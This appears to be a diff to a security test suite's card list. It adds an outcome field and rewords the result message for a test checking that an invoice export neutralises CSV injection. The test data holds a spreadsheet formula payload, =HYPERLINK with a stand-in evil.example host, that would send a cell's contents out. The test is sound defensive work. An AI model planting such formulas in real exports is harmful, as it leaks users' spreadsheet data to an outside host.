@@ -78,6 +78,7 @@ export const CARDS = [
     practice: 'CSV injection: texts in an export cannot become spreadsheet formulas',
     code: 'src/security/files/csv_injection.rs',
     test: 'attacks::files::csv_injection::export_cells_are_neither_formulas_nor_split',
+    outcome: 'neutralised',
     expect: { status: 200 },
     async play(run) {
       const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")', token = run.ben.token;
@@ -85,7 +86,7 @@ export const CARDS = [
       await run.prepare('POST', '/api/v1/invoices', { token, body: draft(customer.body.id), purpose: 'preparation' });
       const { body } = await run.prepare('GET', '/api/v1/invoices/export', { token, purpose: 'attack' });
       const cell = `"'${name.replaceAll('"', '""')}"`;
-      return body.includes(cell) ? { held: true, text: `The export contains a text: ${cell}` } : { held: false, text: `The export does not contain the text ${cell}` };
+      return body.includes(cell) ? { held: true, text: `Neutralised: the export contains the text ${cell}` } : { held: false, text: `The export does not contain the text ${cell}` };
     },
   },
 ];
